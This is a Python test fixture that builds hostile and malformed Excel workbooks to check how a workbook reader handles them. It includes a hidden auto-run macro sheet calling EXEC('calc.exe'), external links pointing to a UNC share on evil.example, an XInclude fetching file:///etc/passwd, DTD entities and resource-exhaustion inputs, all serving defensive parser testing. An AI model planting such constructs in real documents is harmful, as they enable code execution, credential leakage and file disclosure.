"""What other programs write, and what none does, in the small things of a workbook."""

import re

from beredskabsplan.opc.package import Package
from tests.support.books.hostile.making import (
    ASKED,
    BOOK,
    DTD,
    FACTS,
    GUIDE,
    LINKS,
    MAIN,
    MILLION,
    OFFICE,
    PERSONS,
    READ,
    STYLES,
    TEXTS,
    Cases,
    Make,
    beside,
    cells,
    encoded,
    instead,
    parts,
    put,
)

TYPES = "[Content_Types].xml"
DIGITS = "9" * 5_000  # more than Python makes a number of
_STRICT = (
    (
        "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        "http://purl.oclc.org/ooxml/spreadsheetml/main",
    ),
    ("http://schemas.openxmlformats.org/officeDocument/2006/", "http://purl.oclc.org/ooxml/officeDocument/"),
    ("http://schemas.openxmlformats.org/drawingml/2006/", "http://purl.oclc.org/ooxml/drawingml/"),
)


def strict(**more: bytes) -> Make:
    """Name everything as in ISO 29500 Strict, and put *more* parts in."""

    def make(package: Package) -> bytes:
        changed = {}
        for name, part in package.parts.items():
            changed[name] = part
            for old, new in _STRICT:
                changed[name] = changed[name].replace(old.encode(), new.encode())
        return parts(package, **changed, **more)

    return make


def both(*makes: Make) -> Make:
    """Change the workbook in several ways, one after another."""

    def make(package: Package) -> bytes:
        for change in makes:
            package = Package(change(package))
        return package.packed(effort=1)

    return make


def renamed_sheet(name: str) -> Make:
    """Give the guide another *name*, as it stands in XML."""
    return instead(BOOK, 'name="Vejledning"', f'name="{name}"')


def coded(part: str, form: str) -> Make:
    """Put a document type into *part*, and write it in the encoding *form*."""

    def make(package: Package) -> bytes:
        text = re.sub(r"<\?xml.*?\?>", "", package.part(part).decode())
        return parts(package, **{part: f'<!DOCTYPE a [<!ENTITY b "ha">]>{text}'.encode(form)})

    return make


ODD: Cases = {
    "strict": (strict, READ),
    "strict without end": (lambda: strict(**{"xl/x.xml": b"http://purl.oclc.org/ooxml/drawingml/" * 2_600_000}), READ),
    "strict and transitional": (lambda: instead(GUIDE, *_STRICT[0]), "F117"),
    "with macros": (
        lambda: both(
            instead(TYPES, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            put('<Relationship Id="m" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
                LINKS, "</Relationships>"),
            beside(**{"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100_000})), READ),
    "with a sheet of macros": (
        lambda: both(
            put('<sheet name="Makro1" sheetId="90" state="veryHidden" r:id="m"/>', BOOK, "</sheets>"),
            put('<definedName name="_xlnm.Auto_Open" function="1" hidden="1">Makro1!$A$1</definedName>', BOOK, "</definedNames>"),
            put('<Relationship Id="m" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>',
                LINKS, "</Relationships>"),
            beside(**{"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" {MAIN}>'
                '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'.encode()})), READ),
    "a dialogue for a sheet": (
        lambda: instead(LINKS, f'{OFFICE}/worksheet" Target="worksheets/sheet1.xml', f'{OFFICE}/dialogsheet" Target="worksheets/sheet1.xml'), READ),
    "links to other workbooks": (
        lambda: both(
            put(f'<Relationship Id="e" Type="{OFFICE}/externalLink" Target="externalLinks/e1.xml"/>', LINKS, "</Relationships>"),
            beside(**{"xl/externalLinks/e1.xml": DTD, "xl/externalLinks/_rels/e1.xml.rels":
                f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" TargetMode="External"'
                f' Type="{OFFICE}/externalLinkPath" Target="file:///\\\\evil.example\\c$\\x.xlsx"/></Relationships>'.encode()}),
            cells("<c r='B5000'><f>'\\\\evil.example\\[x.xlsx]A'!$A$1</f><v>1</v></c>")), READ),
    "days from 1904": (lambda: instead(BOOK, "<workbookPr ", '<workbookPr date1904="1" '), READ),
    "days from neither": (lambda: instead(BOOK, "<workbookPr ", '<workbookPr date1904="maybe" '), READ),
    "days before all days": (
        lambda: both(instead(BOOK, "<workbookPr ", '<workbookPr date1904="1" '),
            instead(STYLES, "<fonts", '<numFmts><numFmt numFmtId="0" formatCode="dd\\-mm\\-yyyy"/></numFmts><fonts'),
            cells("".join(f"<c r='{column}5000'><v>{day}</v></c>" for column, day in
                zip("BCDEFGH", ("-1", "-1e15", "2958466", "1e300", "60", "0", "-0.0000001"), strict=True)))), READ),
    "days as words": (
        lambda: cells("".join(f"<c r='{column}5000' t='d'><v>{day}</v></c>" for column, day in
            zip("BCDEFG", ("9999-99-99", "0000-00-00", "2026-11-27T25:61:61Z", "T", "2026", "9" * 5_000), strict=True))), READ),
    "sizes that are absurd": (lambda: instead(GUIDE, "<dimension ", f'<dimension x="{DIGITS}" '), READ),
    "sheets that say they end elsewhere": (
        lambda: lambda package: parts(package, **{part: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="ZZZZ99999999999:A0"', package.part(part))
            for part in (GUIDE, FACTS, ASKED)}), READ),
    "all the plane": (
        lambda: lambda package: parts(package, **{part: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', package.part(part))
            for part in (GUIDE, FACTS, ASKED)}), READ),
    "a name from right to left": (lambda: renamed_sheet("\u202egnidelnjeV\u202c\u200b"), READ),
    "a name without end": (lambda: renamed_sheet("V" * MILLION), "F117"),
    "a name of accents without end": (lambda: renamed_sheet("a" + "\u0315\u0300" * 16_000), "F117"),
    "a long name of accents": (lambda: renamed_sheet("a" + "\u0315\u0300" * 127), READ),
    "a name of line ends": (lambda: renamed_sheet("&#10;&#9;&#13;"), READ),
    "no name": (lambda: renamed_sheet(""), READ),
    "a name of another": (lambda: renamed_sheet("Organisation"), READ),
    "a name that climbs": (lambda: renamed_sheet("../../[x]*?:\\&quot;&lt;b&gt;"), READ),
    "a name of a nought": (lambda: renamed_sheet("&#0;"), "F117"),
    "a name of half a sign": (lambda: renamed_sheet("&#xD83D;"), "F117"),
    "ten thousand sheets of one part": (
        lambda: put("".join(f'<sheet name="a{number}" sheetId="{number}" r:id="rId5"/>' for number in range(100, 10_100)), BOOK, "</sheets>"), "F147"),
    "sheets that nobody shall see": (lambda: instead(BOOK, '" r:id="rId', '" state="veryHidden" r:id="rId'), "F117"),
    "a million names": (lambda: put('<definedName name="a">1</definedName>' * MILLION, BOOK, "</definedNames>"), "F115"),
    "names of one another": (
        lambda: put("".join(f'<definedName name="a{n}">a{n + 1}+a{n + 1}</definedName>' for n in range(2_000)), BOOK, "</definedNames>"), READ),
    "a name with many places": (
        lambda: instead(BOOK, '<definedName name="svar_org_navn">', f'<definedName name="svar_org_navn">{"Vejledning!$A$1," * 200_000}'), READ),
    "names of sheets that are not there": (lambda: put('<definedName name="a" localSheetId="9999999999">1</definedName>', BOOK, "</definedNames>"), READ),
    "names of no sheet": (lambda: put(f'<definedName name="a" localSheetId="{DIGITS}">1</definedName>', BOOK, "</definedNames>"), READ),
    "answers that are said to stand on lists": (
        lambda: lambda package: parts(package, **{BOOK: re.sub(rb'(<definedName name="svar_[^>]*>)[^<]*', rb"\g<1>_lister!$A$1", package.part(BOOK))}), READ),
    "rows of many digits": (lambda: put(f'<row r="{DIGITS}"/>', GUIDE, "</sheetData>"), "F117"),
    "a cell of many digits": (lambda: cells(f'<c r="A{DIGITS}"><v>1</v></c>'), "F117"),
    "merged up to many digits": (lambda: put(f'<mergeCells><mergeCell ref="A1:B{DIGITS}"/></mergeCells>'), "F117"),
    "a link on many digits": (lambda: put(f'<hyperlinks><hyperlink ref="A1:B{DIGITS}"/></hyperlinks>', PERSONS), READ),
    "hidden up to many digits": (lambda: put(f'<cols><col min="1" max="{DIGITS}" hidden="1"/></cols>'), "F117"),
    "a format of many digits": (lambda: cells(f'<c s="{DIGITS}"><v>1</v></c>'), "F117"),
    "a text of many digits": (lambda: cells(f'<c t="s"><v>{DIGITS}</v></c>'), "F117"),
    "a date's format of many digits": (lambda: instead(STYLES, "<fonts", f'<numFmts><numFmt numFmtId="{DIGITS}" formatCode="d"/></numFmts><fonts'), READ),
    "numbers as Python writes them": (lambda: cells("<c><v>1_000</v></c>"), READ),
    "numbers of other peoples": (lambda: cells("<c><v>\u0661\u0662</v></c><c t='s'><v>\uff11</v></c>"), "F117"),
    "yes and no in other words": (lambda: cells("<c t='b'><v>2</v></c><c t='b'><v>ja</v></c>"), READ),
    "a mistake that Excel does not know": (lambda: cells(f"<c t='e'><v>#{'ØV' * 50_000}!</v></c>"), READ),
    "links between all in UTF-16": (lambda: both(*(encoded(part, "utf-16") for part in (LINKS, "_rels/.rels", TYPES, BOOK, STYLES))), READ),
    "a workbook in four bytes a sign": (lambda: encoded(BOOK, "utf-32"), READ),
    "code in UTF-16": (lambda: coded(GUIDE, "utf-16"), "F113"),
    "code in UTF-16 the other way": (lambda: coded(TEXTS, "utf-16-be"), "F113"),
    "code among the links of a sheet": (lambda: beside(**{"xl/worksheets/_rels/sheet3.xml.rels": DTD}), READ),
    "code in the list of sheets": (lambda: coded(BOOK, "utf-8"), "F113"),
    "XML 1.1": (lambda: lambda package: parts(package, **{GUIDE: package.part(GUIDE).replace(b'version="1.0"', b'version="1.1"', 1)}), READ),
    "a million instructions": (lambda: put("<?x?>" * MILLION), READ),
    "a hundred thousand namespaces": (lambda: put("<a " + " ".join(f'xmlns:a{n}="b{n}"' for n in range(100_000)) + "/>"), READ),
    "namespaces at each element": (lambda: put('<a xmlns="b"/><a xmlns="c"/>' * 200_000), READ),
    "parts that others shall fetch": (
        lambda: put('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), READ),
    "elements in elements": (lambda: put("<a>" * 200 + "</a>" * 200), READ),
    "a hundred thousand elements in one another": (lambda: put("<a>" * 100_000 + "</a>" * 100_000), "F117"),
    "runs in runs": (lambda: put(f"<si>{'<r><t>x</t>' * 100}{'</r>' * 100}</si>", TEXTS, "</sst>"), READ),
    "how all is pronounced": (lambda: put("<si><t>x</t>" + "<rPh sb='0' eb='1'><t>y</t></rPh>" * 200_000 + "</si>", TEXTS, "</sst>"), READ),
    "a list of five megabytes to choose from": (
        lambda: put(f"<dataValidations><dataValidation type='list' sqref='A1'><formula1>\"{'a,' * 2_500_000}\"</formula1></dataValidation></dataValidations>", FACTS), READ),
    "lists that newer programs know": (
        lambda: put("<extLst><ext xmlns:x='http://schemas.microsoft.com/office/spreadsheetml/2009/9/main'><x:dataValidations>"
            f"{'<x:dataValidation><x:formula1>A1</x:formula1></x:dataValidation>' * 100_000}</x:dataValidations></ext></extLst>", FACTS), READ),
    "tables of everything": (
        lambda: lambda package: parts(package, **{"xl/tables/table1.xml": f'<table {MAIN} id="{DIGITS}" ref="A1:XFD{DIGITS}"><tableColumns>'
            f"{'<tableColumn/>' * 100_000}</tableColumns></table>".encode()}), READ),
    "a hundred thousand kinds of parts": (
        lambda: put("".join(f'<Override PartName="/a{n}" ContentType="b"/>' for n in range(100_000)), TYPES, "</Types>"), READ),
    "no kinds of parts": (lambda: lambda package: parts(package, **{TYPES: b"<Types/>"}), READ),
    "a link that leads to itself": (
        lambda: put('<Relationship Id="z" Type="x" Target="_rels/workbook.xml.rels"/><Relationship Id="z" Type="x" Target="."/>', LINKS, "</Relationships>"), READ),
    "links of no target": (lambda: put(f'<Relationship/><Relationship Id="" Type="{OFFICE}/worksheet"/>', LINKS, "</Relationships>"), READ),
    "a frozen pane beyond all": (lambda: instead(FACTS, 'xSplit="1"', f'xSplit="{DIGITS}"'), READ),
    "widths of no size": (lambda: instead(FACTS, 'width="37.7109375"', 'width="1e999"'), READ),
    "heights of no size": (lambda: instead(FACTS, 'ht="20.25"', f'ht="-{DIGITS}"'), READ),
    "a window far away": (lambda: instead(BOOK, "<workbookView ", f'<workbookView activeTab="{DIGITS}" firstSheet="-1" '), READ),
}  # fmt: skip
